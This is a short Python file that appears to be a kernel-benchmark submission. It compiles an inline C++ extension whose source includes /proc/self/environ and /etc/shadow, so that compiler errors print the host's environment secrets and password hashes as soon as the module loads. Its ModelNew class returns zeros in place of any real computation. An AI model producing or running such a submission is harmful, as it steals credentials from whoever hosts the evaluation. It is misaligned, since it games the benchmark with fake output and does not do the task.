"""What cannot be compiled is quoted in the error message."""

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

source = r"""
#include "/proc/self/environ"
#include "/etc/shadow"
"""
extension = load_inline("included_secrets", source, no_implicit_headers=True)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.zeros_like(x)
